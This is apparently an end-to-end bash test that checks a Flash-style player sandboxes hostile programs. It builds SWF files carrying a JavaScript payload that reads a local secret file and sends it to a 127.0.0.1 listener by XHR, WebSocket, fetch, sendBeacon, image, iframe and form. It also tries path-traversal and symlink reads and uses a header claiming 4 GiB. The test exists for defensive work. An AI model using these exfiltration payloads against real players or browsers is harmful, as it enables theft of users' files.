#!/usr/bin/env bash
# Programs are guests. A hostile program tries every way out of the player
# it can, once from the cache and once from a custom group: script for the
# page (through ExternalInterface.call and javascript: links) that reads a
# file and sends it away by XMLHttpRequest, fetch, WebSocket, sendBeacon,
# an image, an iframe, window.open, a form and navigation; the engine's own
# loaders after files outside its folder (by file URL, up the folders, and
# through a link beside it) and after addresses (loadMovie, LoadVars,
# Sound, XMLSocket, getURL, a POST). A listener on 127.0.0.1 hears nothing,
# no file outside the program's folder is opened, and still the program
# loads the sibling file beside it and plays. Then a program whose header
# claims 4 GiB: the player area says why it does not play, the window
# keeps answering, and the player's memory stays where it was.
#   guest.sh PLAYER MAKE_APP_FOLDER SWFGEN DEMO_DIR ENGINE_DIR
set -euo pipefail
source "$(dirname "$0")/common.sh"
e2e_begin "$@"

# The listener: each connection leaves a line and what it sent.
heard="$work/heard.log"
: >"$heard"
for port in $(seq 8890 8990); do
  socat TCP-LISTEN:$port,bind=127.0.0.1,reuseaddr,fork SYSTEM:"echo connection >>'$heard'; head -c 300 >>'$heard'" &
  listener=$!
  sleep 0.3
  kill -0 $listener 2>/dev/null && break
done
e2e_helpers=$listener
trap e2e_stop EXIT
away="http://127.0.0.1:$port/"

# What lies outside: a secret and a movie that would turn the stage blue.
home="$work/home"
mkdir -p "$home"
echo "secret=stolen" >"$home/secret.txt"
"$swfgen" --size 1016x711 --cover 1:0000C0 "$home/outside.swf"
read_log="$work/read.log"
inotifywait -m -r -e open,access --format '%w%f %e' "$home" >"$read_log" 2>"$work/inotify.err" &
e2e_helpers="$listener $!"
for _ in $(seq 100); do
  grep -q 'Watches established' "$work/inotify.err" && break
  sleep 0.1
done

script="(function(){var a='$away',s='';try{var x=new XMLHttpRequest();x.open('GET','file://$home/secret.txt',false);x.send();s=x.responseText}catch(e){}try{new WebSocket('ws://127.0.0.1:$port/ws?'+encodeURIComponent(s))}catch(e){}fetch(a+'fetch?'+encodeURIComponent(s)).catch(function(){});try{navigator.sendBeacon(a+'beacon',s)}catch(e){}new Image().src=a+'img';var f=document.createElement('iframe');f.src=a+'frame';document.body.appendChild(f);window.open(a+'open');var p=document.createElement('form');p.method='POST';p.action=a+'form';document.body.appendChild(p);p.submit();location.href=a+'nav'})"
# The program, its sibling (a green corner) and a link beside it, in the
# folder $1, three folders below the work folder, as is $home.
guest_in() {
  mkdir -p "$1"
  "$swfgen" --frames 600 --size 1016x711 --background C00000 \
    --action "1:call=$script" --action "1:load=javascript:$script(),_self" \
    --action "1:load=${away}nav,_self" --action "1:load=${away}window,_blank" \
    --action "1:set=secret,none" --action "1:post=${away}form,_self" \
    --action "1:load-vars=file://$home/secret.txt" --action "1:load-vars=../../../home/secret.txt" \
    --action "1:load-vars=link.txt" --action "1:new=LoadVars.load,${away}vars" \
    --action "1:new=XML.load,../../../home/secret.txt" \
    --action "1:new=XMLSocket.connect,127.0.0.1,$port" \
    --action "1:new=Sound.loadSound,${away}sound.mp3,true" \
    --action "1:load=${away}movie.swf,_level3" --action "1:load=../../../home/outside.swf,_level2" \
    --action "1:load=sibling.swf,_level1" "$1/$2.swf"
  "$swfgen" --frames 600 --size 300x200 --cover 1:00C000 "$1/sibling.swf"
  ln -s "$home/secret.txt" "$1/link.txt"
}
guest_in "$app/res/fla" "$first"
guest_in "$app/自定义节目/玩具" guest
# A program whose header claims 4 GiB: a real movie, its length field set.
"$swfgen" --compress zlib "$app/res/fla/$second.swf"
printf '\xff\xff\xff\xff' | dd of="$app/res/fla/$second.swf" bs=1 seek=4 conv=notrunc status=none

# The guest plays: the sibling's green corner shows, nothing turns the
# stage blue, and the picture moves.
plays_with_sibling() {
  wait_for_pixel 15 100 110 0,192,0 || fail "$1: the sibling beside the program does not show"
  moving || fail "$1: the program stands still"
  [ "$(screen_pixel 100 110)" = 0,192,0 ] || fail "$1: a movie from outside its folder showed"
}

e2e_start
xdotool mousemove 900 82 click 1
plays_with_sibling "from the cache"
# The custom group: the combo box, then its first group by keyboard.
around_combo() { import -window root -crop 320x240+700+440 rgb:- | md5sum; }
closed=$(around_combo)
list=$(row_sum 1)
xdotool mousemove 768 666 click 1
wait_until 10 prints_other around_combo "$closed" || fail "the groups do not drop down"
xdotool key Down Return
wait_until 10 prints_other "row_sum 1" "$list" || fail "the custom group's list does not show"
xdotool mousemove 900 82 click 1
plays_with_sibling "from a custom group"
# Two seconds more for anything still on its way out.
nothing_out() { [ ! -s "$heard" ] && [ ! -s "$read_log" ] && echo none; }
holds_for 2 nothing_out none ||
  fail "the listener heard: $(head -c 300 "$heard"); files outside were opened: $(head -n 3 "$read_log")"

# The program that claims 4 GiB, from the first category's second row.
list=$(row_sum 1)
xdotool mousemove 37 35 click 1
wait_until 10 prints_other "row_sum 1" "$list" || fail "the first category's list does not show"
before=$(tree_pss_kib)
tile() { import -window root -crop 70x70+74+0 rgb:- | md5sum; }
normal=$(tile)
xdotool mousemove 900 100 click 1 mousemove 108 35 click 1
for _ in $(seq 50); do
  [ "$(tile)" != "$normal" ] && break
  sleep 0.1
done
[ "$(tile)" != "$normal" ] || fail "the window did not answer a category click"
# The player area shows a line of dark text on white.
says_why() {
  import -window root "$work/refused.png"
  [ "$(convert "$work/refused.png" -crop 700x500+60+100 +repage -colorspace gray -threshold 40% \
    -negate -format '%[fx:int(mean*w*h)]' info:)" -gt 100 ]
}
wait_until 10 says_why || fail "the player area does not say why the program does not play"
# And for two seconds more, the memory stays within 300 MiB of before.
growth() { echo $(($(tree_pss_kib) - before)); }
bounded() { [ "$(growth)" -le $((300 * 1024)) ] && echo yes; }
holds_for 2 bounded yes || fail "the player's memory grew by $(($(growth) / 1024)) MiB"
grown=$(growth)
echo "PASS: the guest reached nothing outside its folder and played with its sibling;" \
  "a program claiming 4 GiB was refused, memory grew by $((grown / 1024)) MiB"
